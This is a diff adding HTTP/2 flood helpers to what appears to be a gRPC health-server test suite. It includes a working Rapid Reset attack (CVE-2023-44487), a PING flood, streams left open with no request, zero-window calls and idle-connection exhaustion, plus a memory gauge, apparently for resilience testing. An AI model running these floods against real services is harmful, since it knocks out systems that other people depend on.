@@ -246,3 +246,170 @@ def liveness_server(work: Path, grace: float = 2.0, arguments: Sequence[str] = (
 def flip(server: ServerProcess) -> Callable[[], None]:
     """The owner's maintenance toggle (SIGUSR1) of ``server``: health flips."""
     return lambda: server.signal(signal.SIGUSR1)
+
+
+# ---------------------------------------------------------------------------------- floods
+
+CHECK_PATH = "/grpc.health.v1.Health/Check"
+
+
+class RawConnection:
+    """A raw HTTP/2 client connection (``h2``) for the floods below: SETTINGS with a stream window
+    of ``window`` bytes, no reads unless asked (a peer that does not read)."""
+
+    def __init__(self, host: str, port: int, window: int = 65535):
+        self.host, self.port = host, port
+        self.sock = socket.create_connection((host, port), timeout=5)
+        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
+        self.conn = h2.connection.H2Connection(config=config)
+        self.conn.local_settings = h2.settings.Settings(
+            client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window}
+        )
+        self.conn.initiate_connection()
+        self.flush()
+        self.goaway = False
+
+    def headers(self, path: str) -> list[tuple[str, str]]:
+        return [
+            (":method", "POST"),
+            (":scheme", "http"),
+            (":path", path),
+            (":authority", f"{self.host}:{self.port}"),
+            ("content-type", "application/grpc"),
+            ("te", "trailers"),
+        ]
+
+    def flush(self) -> None:
+        data = self.conn.data_to_send()
+        if data:
+            self.sock.sendall(data)
+
+    def drain(self) -> None:
+        """Read what has arrived without waiting (SETTINGS acknowledged, GOAWAY noted)."""
+        self.sock.setblocking(False)
+        try:
+            while True:
+                data = self.sock.recv(1 << 16)
+                if not data:
+                    self.goaway = True
+                    return
+                for event in self.conn.receive_data(data):
+                    if isinstance(event, h2.events.ConnectionTerminated):
+                        self.goaway = True
+        except (BlockingIOError, InterruptedError):
+            pass
+        except Exception:  # a reset connection or a protocol error: this connection is done
+            self.goaway = True
+        finally:
+            self.sock.settimeout(5)
+
+    def close(self) -> None:
+        with contextlib.suppress(OSError):
+            self.sock.close()
+
+
+def rapid_reset(host: str, port: int, seconds: float, batch: int = 100) -> int:
+    """HEADERS then RST_STREAM at once for health ``Check`` streams, ``batch`` at a time, for
+    ``seconds`` (CVE-2023-44487), reconnecting when the server ends the connection. Returns the
+    streams opened."""
+    opened, ends = 0, time.monotonic() + seconds
+    connection: RawConnection | None = None
+    request = struct.pack(">BI", 0, 0)
+    while time.monotonic() < ends:
+        if connection is None or connection.goaway:
+            if connection is not None:
+                connection.close()
+            try:
+                connection = RawConnection(host, port)
+            except OSError:
+                time.sleep(0.05)
+                continue
+        try:
+            for _ in range(batch):
+                stream = connection.conn.get_next_available_stream_id()
+                connection.conn.send_headers(stream, connection.headers(CHECK_PATH))
+                connection.conn.send_data(stream, request)
+                connection.conn.reset_stream(stream)
+                opened += 1
+            connection.flush()
+            connection.drain()
+        except Exception:  # the server closed the connection, or h2 ran out of stream ids
+            connection.goaway = True
+    if connection is not None:
+        connection.close()
+    return opened
+
+
+def ping_flood(host: str, port: int, seconds: float) -> int:
+    """PING frames as fast as the socket takes them, no acknowledgement ever read; reconnecting
+    when the server ends the connection. Returns the pings sent."""
+    sent, ends = 0, time.monotonic() + seconds
+    connection: RawConnection | None = None
+    while time.monotonic() < ends:
+        try:
+            if connection is None:
+                connection = RawConnection(host, port)
+            for _ in range(100):
+                connection.conn.ping(struct.pack(">Q", sent))
+                sent += 1
+            connection.flush()
+        except Exception:  # ended by the server (GOAWAY, reset): come back
+            if connection is not None:
+                connection.close()
+            connection = None
+            time.sleep(0.01)
+    if connection is not None:
+        connection.close()
+    return sent
+
+
+def silent_call(host: str, port: int, path: str = WATCH_PATH) -> RawConnection:
+    """A call whose request never comes: HEADERS, then nothing (the stream left open)."""
+    connection = RawConnection(host, port)
+    stream = connection.conn.get_next_available_stream_id()
+    connection.conn.send_headers(stream, connection.headers(path))
+    connection.flush()
+    return connection
+
+
+def unread_unary_calls(host: str, port: int, path: str, message: bytes, seconds: float, rate: float) -> int:
+    """Unary calls at ``rate`` per second on a connection whose window is 0: no reply can be
+    delivered. Returns the calls sent (streams the server refuses are simply not answered)."""
+    sent, ends = 0, time.monotonic() + seconds
+    connection = RawConnection(host, port, window=0)
+    framed = struct.pack(">BI", 0, len(message)) + message
+    try:
+        while time.monotonic() < ends:
+            try:
+                stream = connection.conn.get_next_available_stream_id()
+                connection.conn.send_headers(stream, connection.headers(path))
+                connection.conn.send_data(stream, framed, end_stream=True)
+                connection.flush()
+                connection.drain()
+                sent += 1
+            except Exception:  # the stream limit (h2 refuses more) or a closed connection
+                connection.close()
+                connection = RawConnection(host, port, window=0)
+            time.sleep(1 / rate)
+    finally:
+        connection.close()
+    return sent
+
+
+def idle_connections(host: str, port: int, count: int) -> list[socket.socket]:
+    """``count`` TCP connections that send nothing (each holds a descriptor of the server's)."""
+    sockets = []
+    for _ in range(count):
+        try:
+            sockets.append(socket.create_connection((host, port), timeout=5))
+        except OSError:
+            break
+    return sockets
+
+
+def rss_bytes(pid: int) -> int:
+    """The process's resident memory (Linux ``/proc``)."""
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        if line.startswith("VmRSS:"):
+            return int(line.split()[1]) * 1024
+    return 0
